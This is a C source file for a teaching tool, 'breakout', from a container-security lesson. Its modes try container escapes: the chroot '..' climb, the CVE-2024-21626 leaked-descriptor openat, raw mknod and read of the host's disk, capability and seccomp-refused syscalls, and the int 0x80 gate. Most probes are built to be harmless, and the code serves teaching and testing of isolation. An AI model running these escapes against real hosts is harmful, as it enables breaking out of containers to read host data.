/*
 * breakout: lesson 11's attack kit. Each mode is something an attacker with a shell in a container tries; it
 * makes the system calls itself and prints what the kernel answered, one line each.
 *
 * It is compiled static (rootfs-scripts/breakout.ts), so it needs nothing from a container's root filesystem,
 * and it is written so that an attempt that is *allowed* still changes nothing outside the container: the
 * probes give the kernel arguments it rejects after its permission check (an empty module, no time to set, a
 * path that is not there), so the answer tells "refused" (EPERM) apart from "allowed" without doing harm.
 *
 *   breakout chroot DIR FILE   the chroot escape: mkdir, chroot into it, climb "..", chroot("."), read FILE
 *   breakout fd N FILE         read FILE through directory fd N, if this process inherited one
 *   breakout caps MAJ:MIN      mount, mknod of a block device, setting the clock, loading a module, chown
 *   breakout devices MAJ:MIN   make a node for a block device in /dev, open it and read its first sector; /dev/null
 *   breakout whoami            real and effective uid, and the capabilities this process holds
 *   breakout paths FILE        read FILE and /sys/firmware, write /proc/sys/kernel/hostname: masked, read-only?
 *   breakout write PATH...     create each PATH: is the file system under it writable?
 *   breakout syscalls          the calls docker's seccomp profile refuses, each tried once
 *   breakout i386              one system call through the 32-bit entry (int 0x80), from this 64-bit process
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/time.h>
#include <sys/types.h>
#include <sys/wait.h>
#include <unistd.h>

static const char *errname(int e) {
  switch (e) {
    case EPERM: return "EPERM";
    case ENOENT: return "ENOENT";
    case EBADF: return "EBADF";
    case EACCES: return "EACCES";
    case EFAULT: return "EFAULT";
    case EBUSY: return "EBUSY";
    case EEXIST: return "EEXIST";
    case ENOTDIR: return "ENOTDIR";
    case EINVAL: return "EINVAL";
    case EROFS: return "EROFS";
    case ENOSYS: return "ENOSYS";
    case ENOEXEC: return "ENOEXEC";
    case ENOKEY: return "ENOKEY";
    case EOPNOTSUPP: return "EOPNOTSUPP";
    default: return "errno";
  }
}

/** One line: what was tried, and the kernel's answer (`ok`, or the errno's name). Returns whether it succeeded. */
static int report(const char *what, long ret, int err) {
  if (ret >= 0) printf("%-23s  ok\n", what);
  else printf("%-23s  %s\n", what, errname(err));
  return ret >= 0;
}

/** Make the call, then report it: errno is read after the call (a function's arguments have no order in C). */
static int try_report(const char *what, long ret) {
  return report(what, ret, errno);
}
#define TRY(what, call) (errno = 0, try_report((what), (long)(call)))

/** The first line of a file, printed after `label`. */
static int print_first_line(const char *label, int fd) {
  char buf[256];
  ssize_t n = read(fd, buf, sizeof buf - 1);
  if (n < 0) return report(label, -1, errno);
  buf[n] = '\0';
  buf[strcspn(buf, "\n")] = '\0';
  printf("%s: %s\n", label, buf);
  return 1;
}

/** The entries of the current root, sorted, on one line: where did we land? */
static void list_root(void) {
  struct dirent **names;
  int n = scandir("/", &names, NULL, alphasort);
  if (n < 0) {
    report("ls /", -1, errno);
    return;
  }
  printf("ls /:");
  for (int i = 0; i < n; i++) {
    if (names[i]->d_name[0] != '.') printf(" %s", names[i]->d_name);
    free(names[i]);
  }
  printf("\n");
  free(names);
}

/*
 * The classic escape. chroot(2) changes the process's root but not its working directory, and the kernel stops
 * ".." only at the current root. So: make a directory, chroot into it while standing outside it, and ".." from
 * there climbs past the old root to the real one; chroot(".") makes that the root again. Needs CAP_SYS_CHROOT.
 */
static int mode_chroot(const char *dir, const char *file) {
  if (!TRY("chdir(DIR)", chdir(dir))) return 1;
  errno = 0;
  long made = mkdir("scr-jail", 0700);
  if (made < 0 && errno == EEXIST) made = 0;
  report("mkdir(\"scr-jail\")", made, errno);
  if (!TRY("chroot(\"scr-jail\")", chroot("scr-jail"))) return 1;
  int climbed = 0;
  for (; climbed < 64; climbed++)
    if (chdir("..") < 0) break;
  printf("%-23s  %d times\n", "chdir(\"..\")", climbed);
  if (!TRY("chroot(\".\")", chroot("."))) return 1;
  list_root();
  int fd = open(file, O_RDONLY);
  char label[160];
  snprintf(label, sizeof label, "cat %s", file);
  if (fd < 0) {
    report(label, -1, errno);
    return 1;
  }
  print_first_line(label, fd);
  return 0;
}

/*
 * runc's CVE-2024-21626: a directory fd of the host's, left open across execve, is a way out. openat(2) with a
 * relative path starts at that directory, whatever the process's root is.
 */
static int mode_fd(int n, const char *file) {
  printf("open fds:");
  for (int fd = 0; fd < 1024; fd++)
    if (fcntl(fd, F_GETFD) >= 0) printf(" %d", fd);
  printf("\n");
  const char *rel = file;
  while (*rel == '/') rel++;
  char label[200];
  snprintf(label, sizeof label, "openat(%d, \"%s\")", n, rel);
  errno = 0;
  int fd = openat(n, rel, O_RDONLY);
  if (fd < 0) {
    report(label, -1, errno);
    return 1;
  }
  print_first_line(label, fd);
  return 0;
}

/*
 * What root may do and a container's root must not: each needs one capability. The mount is of a tmpfs on /mnt
 * (inside the container's own mount namespace) and undone; the device node is removed again; settimeofday with
 * two NULLs asks for the permission and sets nothing; init_module is given an empty module, which the kernel
 * refuses (ENOEXEC) after the permission check.
 */
static int mode_caps(const char *dev) {
  unsigned maj = 0, min = 0;
  if (sscanf(dev, "%u:%u", &maj, &min) != 2) {
    fprintf(stderr, "breakout caps: MAJOR:MINOR of a block device, e.g. 8:0\n");
    return 2;
  }
  errno = 0;
  long m = mount("scr", "/mnt", "tmpfs", 0, NULL);
  report("mount(tmpfs, /mnt)", m, errno);
  if (m == 0) umount2("/mnt", MNT_DETACH);
  char what[64];
  snprintf(what, sizeof what, "mknod(disk, b %u:%u)", maj, min);
  errno = 0;
  long k = mknod("/tmp/scr-disk", S_IFBLK | 0600, makedev(maj, min));
  report(what, k, errno);
  if (k == 0) unlink("/tmp/scr-disk");
  TRY("settimeofday(NULL,NULL)", syscall(SYS_settimeofday, NULL, NULL));
  TRY("init_module(empty)", syscall(SYS_init_module, "", 0UL, ""));
  int fd = open("/tmp/scr-owned", O_CREAT | O_WRONLY, 0600);
  if (fd >= 0) close(fd);
  TRY("chown(file, 65534)", chown("/tmp/scr-owned", 65534, 65534));
  unlink("/tmp/scr-owned");
  return 0;
}

/*
 * The device cgroup's test: CAP_MKNOD lets root make a node for any device, here the host's disk; the node is made
 * in /dev (a tmpfs without nodev, as every container's /dev is) and opened read-only. Reading a sector changes
 * nothing; the node is removed again. Then /dev/null, which every container must be able to use.
 */
static int mode_devices(const char *dev) {
  unsigned maj = 0, min = 0;
  if (sscanf(dev, "%u:%u", &maj, &min) != 2) {
    fprintf(stderr, "breakout devices: MAJOR:MINOR of a block device, e.g. 8:0\n");
    return 2;
  }
  const char *node = "/dev/scr-disk";
  unlink(node);
  char what[64];
  snprintf(what, sizeof what, "mknod(disk, b %u:%u)", maj, min);
  errno = 0;
  report(what, mknod(node, S_IFBLK | 0600, makedev(maj, min)), errno);
  errno = 0;
  int fd = open(node, O_RDONLY);
  report("open(disk)", fd, errno);
  if (fd >= 0) {
    char sector[512];
    errno = 0;
    ssize_t n = read(fd, sector, sizeof sector);
    if (n >= 0) printf("%-23s  %zd bytes\n", "read(disk)", n);
    else report("read(disk)", n, errno);
    close(fd);
  }
  unlink(node);
  errno = 0;
  int null = open("/dev/null", O_WRONLY);
  report("open(/dev/null)", null, errno);
  if (null >= 0) {
    TRY("write(/dev/null)", write(null, "x", 1));
    close(null);
  }
  return 0;
}

/** A status line of /proc/self/status ("CapEff"), or "?" without /proc. */
static void status_field(const char *name) {
  FILE *f = fopen("/proc/self/status", "r");
  char line[256];
  size_t len = strlen(name);
  while (f && fgets(line, sizeof line, f)) {
    if (strncmp(line, name, len) == 0 && line[len] == ':') {
      char *v = line + len + 1;
      v += strspn(v, " \t");
      v[strcspn(v, "\n")] = '\0';
      printf("%-12s %s\n", name, v);
      fclose(f);
      return;
    }
  }
  if (f) fclose(f);
  printf("%-12s ?\n", name);
}

static int mode_whoami(void) {
  printf("%-12s %d\n%-12s %d\n", "uid", (int)getuid(), "euid", (int)geteuid());
  status_field("CapEff");
  status_field("NoNewPrivs");
  return 0;
}

/** The first line of FILE, or "(empty)": what a masked file gives. */
static void read_first_line(const char *file) {
  char label[96];
  snprintf(label, sizeof label, "read %s", file);
  int fd = open(file, O_RDONLY);
  if (fd < 0) {
    report(label, -1, errno);
    return;
  }
  char buf[72];
  ssize_t n = read(fd, buf, sizeof buf - 1);
  close(fd);
  if (n < 0) {
    report(label, -1, errno);
    return;
  }
  buf[n] = '\0';
  buf[strcspn(buf, "\n")] = '\0';
  printf("%-23s  %s\n", label, n == 0 ? "(empty)" : buf);
}

/*
 * /proc and /sys show the machine, not the container: a few of their files are masked (an empty file or an empty
 * directory is mounted over them) and a few directories are read-only. The hostname written here is the
 * container's own (its UTS namespace), so the write changes nothing on the host even where it is allowed.
 */
static int mode_paths(const char *file) {
  read_first_line(file);
  struct dirent **names;
  int n = scandir("/sys/firmware", &names, NULL, alphasort);
  if (n < 0) {
    report("ls /sys/firmware", -1, errno);
  } else {
    printf("%-23s ", "ls /sys/firmware");
    int shown = 0;
    for (int i = 0; i < n; i++) {
      if (names[i]->d_name[0] != '.') {
        printf(" %s", names[i]->d_name);
        shown++;
      }
      free(names[i]);
    }
    printf("%s\n", shown ? "" : " (empty)");
    free(names);
  }
  errno = 0;
  int fd = open("/proc/sys/kernel/hostname", O_WRONLY);
  long w = fd < 0 ? -1 : write(fd, "scr-renamed\n", 12);
  report("write /proc/sys/kernel/hostname", w, errno);
  if (fd >= 0) close(fd);
  return 0;
}

/** Create each path (an empty file, left there): is the file system it is on writable? */
static int mode_write(int n, char **paths) {
  for (int i = 0; i < n; i++) {
    char label[96];
    snprintf(label, sizeof label, "create %s", paths[i]);
    errno = 0;
    int fd = open(paths[i], O_CREAT | O_WRONLY | O_TRUNC, 0644);
    report(label, fd, errno);
    if (fd >= 0) close(fd);
  }
  return 0;
}

/*
 * The calls docker's default seccomp profile refuses. Each is given arguments the kernel rejects once it has
 * decided the caller may make the call at all: a filter's EPERM comes before any of that.
 */
static int mode_syscalls(void) {
  int status = 0;
  pid_t child = fork();
  if (child == 0) _exit(unshare(CLONE_NEWUSER) == 0 ? 0 : errno); /* in a child: the new namespace dies with it */
  waitpid(child, &status, 0);
  int unshare_errno = WIFEXITED(status) ? WEXITSTATUS(status) : EINVAL;
  report("unshare(CLONE_NEWUSER)", unshare_errno ? -1 : 0, unshare_errno);
  /* /mnt exists: without the right capability the answer is EPERM, not "no such directory". Undone at once. */
  TRY("mount", mount("scr", "/mnt", "tmpfs", MS_RDONLY, NULL));
  TRY("umount2", umount2("/mnt", 0));
  TRY("pivot_root", syscall(SYS_pivot_root, "/nonexistent-scr", "/nonexistent-scr"));
  TRY("setns", syscall(SYS_setns, -1, CLONE_NEWNET));
  TRY("keyctl", syscall(SYS_keyctl, 0 /* KEYCTL_GET_KEYRING_ID */, -3 /* session */, 0));
  TRY("add_key", syscall(SYS_add_key, "", NULL, NULL, 0, 0));
  TRY("request_key", syscall(SYS_request_key, "", "", NULL, 0));
  TRY("bpf", syscall(SYS_bpf, -1, NULL, 0));
  TRY("perf_event_open", syscall(SYS_perf_event_open, NULL, 0, -1, -1, 0));
  errno = 0;
  long uffd = syscall(SYS_userfaultfd, 0);
  report("userfaultfd", uffd, errno);
  if (uffd >= 0) close((int)uffd);
  TRY("kexec_load", syscall(SYS_kexec_load, 0UL, 0xffffUL, NULL, 0xffff0000UL));
  TRY("init_module", syscall(SYS_init_module, "", 0UL, ""));
  TRY("finit_module", syscall(SYS_finit_module, -1, "", 0));
  TRY("delete_module", syscall(SYS_delete_module, "scr-none", O_NONBLOCK));
  TRY("open_by_handle_at", syscall(SYS_open_by_handle_at, -1, NULL, 0));
  TRY("reboot", syscall(SYS_reboot, 0, 0, 0, NULL));
  TRY("swapon", syscall(SYS_swapon, "/nonexistent-scr", 0));
  TRY("swapoff", syscall(SYS_swapoff, "/nonexistent-scr"));
  TRY("settimeofday", syscall(SYS_settimeofday, NULL, NULL));
  TRY("clock_settime", syscall(SYS_clock_settime, 0, NULL));
  TRY("acct", syscall(SYS_acct, "/nonexistent-scr"));
#ifdef SYS_iopl
  TRY("iopl", syscall(SYS_iopl, 4));
  TRY("ioperm", syscall(SYS_ioperm, 0UL, 0UL, 0));
#endif
  return 0;
}

/*
 * A 64-bit process may still enter the kernel through the 32-bit gate (int 0x80), where system call numbers
 * mean something else: 20 is getpid there, but lseek on x86_64. A filter that looked only at the number would
 * be fooled; ours checks the architecture first and kills the process.
 */
static int mode_i386(void) {
#if defined(__x86_64__)
  printf("int 0x80, eax=20 (getpid on i386): ");
  fflush(stdout);
  long ret;
  __asm__ volatile("int $0x80" : "=a"(ret) : "a"(20L) : "memory", "rcx", "r11");
  if (ret < 0) printf("%s (%s)\n", errname((int)-ret), strerror((int)-ret));
  else printf("%ld (getpid() says %d)\n", ret, (int)getpid());
  fflush(stdout);
  return 0;
#else
  printf("the 32-bit entry exists on x86_64 only\n");
  return 2;
#endif
}

int main(int argc, char **argv) {
  setvbuf(stdout, NULL, _IOLBF, 0);
  const char *mode = argc > 1 ? argv[1] : "";
  if (!strcmp(mode, "chroot") && argc == 4) return mode_chroot(argv[2], argv[3]);
  if (!strcmp(mode, "fd") && argc == 4) return mode_fd(atoi(argv[2]), argv[3]);
  if (!strcmp(mode, "caps") && argc == 3) return mode_caps(argv[2]);
  if (!strcmp(mode, "devices") && argc == 3) return mode_devices(argv[2]);
  if (!strcmp(mode, "whoami")) return mode_whoami();
  if (!strcmp(mode, "paths") && argc == 3) return mode_paths(argv[2]);
  if (!strcmp(mode, "write") && argc >= 3) return mode_write(argc - 2, argv + 2);
  if (!strcmp(mode, "syscalls")) return mode_syscalls();
  if (!strcmp(mode, "i386")) return mode_i386();
  fprintf(stderr,
          "usage: breakout chroot DIR FILE | fd N FILE | caps MAJOR:MINOR | devices MAJOR:MINOR | whoami | paths FILE |"
          " write PATH... | syscalls | i386\n");
  return 2;
}
